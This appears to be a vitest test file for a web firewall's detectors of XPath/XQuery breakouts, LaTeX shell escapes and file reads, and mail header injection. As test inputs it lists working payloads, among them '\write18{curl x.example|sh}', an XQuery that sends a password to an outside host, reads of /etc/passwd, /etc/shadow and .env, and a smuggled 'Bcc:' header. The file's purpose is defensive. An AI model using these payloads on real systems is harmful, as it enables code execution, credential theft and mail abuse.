/**
 * Three host-side value checks from the nineteenth and twentieth blind pairs:
 * XPath/XQuery breakouts (core/signatures/xpath-breakout.ts, 920265), LaTeX
 * that runs or reads (core/signatures/latex.ts, 920266/920267), and a line
 * break followed by a field in a body field a mail is built from
 * (header-maps.ts mailField, 921120). Each attack shape is named; the
 * documents, maths and mappings that look like them pass.
 */
import { describe, expect, it } from "vitest";
import { mailField } from "../../../core/signatures/header-maps.ts";
import type { SignatureInput } from "../../../core/signatures/index.ts";
import { latexAbuse } from "../../../core/signatures/latex.ts";
import { xpathBreakout } from "../../../core/signatures/xpath-breakout.ts";
import { jsonInput, rulesOf } from "./support.ts";

const rules = (over: Partial<SignatureInput>): string[] =>
  rulesOf({ method: "GET", path: "/x", rawPath: "/x", query: [], headers: [["host", "app.example"]], ...over });
const json = (body: unknown): Partial<SignatureInput> => jsonInput(body);

describe("XPath and XQuery breakouts", () => {
  it("names a value that leaves its literal and predicate", () => {
    for (const v of [
      "')] | //* | //*[('",
      "L2231']/../*[contains(name(),'pass')]|//*[@x='",
      'psalter"] return doc("/db/system/security/exist/accounts/admin.xml") (:',
      "B-4421')] return doc(concat('http://x.example/', string(/users/user[1]/password)))",
      "x'] //user",
    ])
      expect(xpathBreakout(v), v).toBe(true);
  });

  it("leaves whole expressions, JSONPath and prose alone", () => {
    for (const v of [
      "//Item[@sku='A1']/Qty",
      "/Stock/Item[Qty > 0]",
      "$.store.book[?(@.isbn=='123')].title",
      "concat(a,'x')]//b",
      "O'Brien [sales]",
      "Tom's list] / notes",
      "",
    ])
      expect(xpathBreakout(v), v).toBe(false);
  });

  it("is 920265 in a query value and a JSON field", () => {
    expect(rules({ query: [["titel", "')] | //* | //*[('"]] })).toContain("920265");
    expect(rules(json({ lot: "L1']/..//*" }))).toContain("920265");
    expect(rules({ query: [["xpath", "//Invoice/Line[@type='fee']/Amount"]] })).not.toContain("920265");
  });
});

describe("LaTeX that runs or reads", () => {
  it("names shell escapes, piped input and file writes", () => {
    for (const v of [
      "\\immediate\\write18{id > out.txt}",
      "\\write18{curl x.example|sh}",
      "\\input{|id}",
      '\\input|"cat /etc/passwd"',
      "\\directlua{os.execute('id')}",
      "\\newwrite\\outfile\\openout\\outfile=shell.php",
      "%5Cinput%7B%7Cid%7D",
    ])
      expect(latexAbuse(v), v).toBe("shell");
  });

  it("names input commands with absolute or parent paths", () => {
    for (const v of [
      "\\input{/etc/passwd}",
      "$$\\verbatiminput{/var/www/config.php}$$",
      "\\lstinputlisting{../../.env}",
      "\\openin5=/etc/hosts",
      "\\inputminted{text}{/etc/shadow}",
    ])
      expect(latexAbuse(v), v).toBe("file");
  });

  it("leaves documents and maths alone", () => {
    for (const v of [
      "\\input{chapters/intro}",
      "\\include{appendix}",
      "\\includegraphics{/img/plot.png}",
      "\\frac{a}{b} + \\sum_{i=1}^{n} x_i",
      "$x < y$ and \\{x \\mid x > 0\\}",
      "C:\\Users\\ana\\input\\data.csv",
      "",
    ])
      expect(latexAbuse(v), v).toBeNull();
  });

  it("is 920266 or 920267 in a form or query value", () => {
    expect(
      rules({ query: [["text", "\\documentclass{article}\\begin{document}\\input{|id}\\end{document}"]] }),
    ).toContain("920266");
    expect(rules({ query: [["text", "\\verbatiminput{/var/www/.env}"]] })).toContain("920267");
    expect(rules({ query: [["text", "\\input{sections/results}"]] })).toEqual([]);
  });
});

describe("a mail's fields", () => {
  it("knows the names a mail is built from", () => {
    for (const k of ["fromName", "reply_to", "to[0]", "Bcc", "subject", "email"]) expect(mailField(k), k).toBe(true);
    for (const k of ["note", "description", "body", "toggle", "names"]) expect(mailField(k), k).toBe(false);
  });

  it("is 921120 when a line break and a field follow in one", () => {
    expect(rules(json({ to: "ap@fabrikam.example", fromName: "Quill Billing\r\nBcc: collect@x.example" }))).toContain(
      "921120",
    );
    expect(rules(json({ note: "Paid in full.\nReference: INV-2231" }))).not.toContain("921120");
    expect(rules(json({ fromName: "Quill Billing" }))).toEqual([]);
  });
});
